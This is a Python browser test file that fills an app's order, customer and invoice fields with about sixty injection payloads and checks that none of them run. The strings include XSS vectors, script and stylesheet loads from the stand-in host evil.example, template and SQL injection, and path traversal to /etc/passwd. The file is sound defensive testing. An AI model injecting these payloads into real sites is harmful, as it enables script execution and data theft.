"""What RevKeen's data may hold, in every field it can come in: nothing of it runs, all of it is shown as typed."""

import re
from itertools import cycle
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import OpenPage
from tests.browser.places import CUSTOMERS, ORDERS
from tests.support.emulation import RunningEmulator
from tests.support.variants import only_full

pytestmark = pytest.mark.browser

HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>fetch('/pwned')</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    *(f"<img src=x {handler}=window.pwned=1>" for handler in HANDLERS),
    *(f'" {handler}="window.pwned=1" autofocus x="' for handler in HANDLERS),
    *(f"' {handler}='window.pwned=1' autofocus x='" for handler in HANDLERS),
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=javascript:window.pwned=1>",
    "<a href=javascript:window.pwned=1 autofocus>x</a>",
    "<a href='java\tscript:window.pwned=1'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<input onfocus=window.pwned=1 autofocus>",
    "<marquee onstart=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<div hx-get=/pwned hx-trigger=load></div>",
    "<div data-hx-get=/pwned data-hx-trigger=load></div>",
    "<div hx-on:load=window.pwned=1 hx-on::load=window.pwned=1></div>",
    '" hx-get="/pwned" hx-trigger="load" x="',
    '" data-hx-on:click="window.pwned=1" x="',
    "{{ 7*7 }}{% csrf_token %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\u202e<script>window.pwned=1</script>",
    "<scr\u0000ipt>window.pwned=1</scr\u0000ipt>".replace("\u0000", "\ufffd"),
    "＜script＞window.pwned=1＜/script＞",
    '=HYPERLINK("//evil.example")',
    "' OR '1'='1",
    "../../../etc/passwd",
    "%s%n%x",
]


def test_there_are_enough_of_them() -> None:
    assert len(PAYLOADS) >= 60


def plant(emulator: RunningEmulator) -> dict[str, Any]:
    """Put payloads into every text field of an order with sixty lines and of all that is around it."""
    orders = emulator.orders()
    texts = cycle(PAYLOADS)
    for order in orders:
        emulator.patch("orders", order["id"], public_id=next(texts))
    target = max(
        (order for order in orders if order["customer_id"] and order["invoice_id"]), key=lambda o: len(o["line_items"])
    )
    lines = [
        {**target["line_items"][0], "description": text, "metadata": {text: text}, "position": place}
        for place, text in enumerate(PAYLOADS)
    ]
    facts = {text: text for text in PAYLOADS} | {"nested": {"list": PAYLOADS}}
    emulator.patch("orders", target["id"], line_items=lines, notes="\n".join(PAYLOADS)[:1000], metadata=facts)
    for customer in emulator.get("/customers?limit=100")["data"]:
        text = next(texts)
        emulator.patch("customers", customer["id"], **dict.fromkeys(CUSTOMER_TEXTS, text), metadata={text: text})
    for product in emulator.get("/products?limit=100")["data"]:
        emulator.patch("products", product["id"], name=next(texts), product_id=next(texts))
    emulator.patch("invoices", target["invoice_id"], invoice_number=next(texts), status=next(texts))
    for row in emulator.get(f"/transactions?invoice_id={target['invoice_id']}")["data"]:
        text = next(texts)
        emulator.patch(
            "transactions", row["id"], gateway_response_text=text, card_brand=text, card_last_four=text, type=text
        )
    for event in emulator.get(f"/events?order_id={target['id']}&limit=100")["data"]:
        emulator.patch("events", event["id"], type=next(texts))
    return target


CUSTOMER_TEXTS = (
    "name email phone company_name address_line1 address_line2 city state postal_code country merchant_ref_id".split()
)


def test_nothing_that_the_api_sends_runs(open_page: OpenPage, emulator: RunningEmulator) -> None:
    target = plant(emulator)
    page = open_page("/account/")
    scripts = page.locator("script").count()
    fetched: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    host = page.url.removesuffix("/account/")
    addresses = [
        ORDERS,
        f"{ORDERS}{target['id']}/",
        f"{ORDERS}{target['id']}/json/",
        CUSTOMERS,
        f"{CUSTOMERS}{target['customer_id']}/",
    ]
    for address in addresses:
        page.goto(host + address, wait_until="networkidle")
        hover_over_everything(page)
        assert page.evaluate("window.pwned") is None, address
        assert page.locator("script").count() == scripts, address
        assert page.evaluate("document.querySelectorAll('iframe, object, embed, base, svg script').length") == 0, (
            address
        )
    assert dialogs == []
    assert [url for url in fetched if not url.startswith(host) or "pwned" in url] == []


def test_all_of_it_is_shown_as_typed(open_page: OpenPage, emulator: RunningEmulator) -> None:
    target = plant(emulator)
    page = open_page(f"{ORDERS}{target['id']}/")
    shown = squeezed(page.locator("main").inner_text())
    assert [payload for payload in PAYLOADS if squeezed(payload) not in shown] == []


@pytest.mark.parametrize("payload", [*PAYLOADS[:2], *map(only_full, PAYLOADS[2:12])])
def test_an_error_message_of_the_api_is_text_too(payload: str, open_page: OpenPage, emulator: RunningEmulator) -> None:
    emulator.fault("error", path="/orders$", status=422, code=payload, message=payload, times=5)
    page = open_page(ORDERS)
    assert squeezed(payload) in squeezed(page.locator("main").inner_text())
    assert page.evaluate("window.pwned") is None


def test_what_somebody_types_is_text_too(open_page: OpenPage, emulator: RunningEmulator) -> None:
    for address in (f"{CUSTOMERS}?q=", f"{ORDERS}?status=", "/account/login/?next="):
        page = open_page(address + "%22%3E%3Cscript%3Ewindow.pwned%3D1%3C/script%3E")
        assert page.evaluate("window.pwned") is None


def hover_over_everything(page: Page) -> None:
    page.evaluate(
        "for (const e of document.querySelectorAll('main *'))"
        " e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))"
    )


def squeezed(text: str) -> str:
    return re.sub(r"\s+", " ", text)
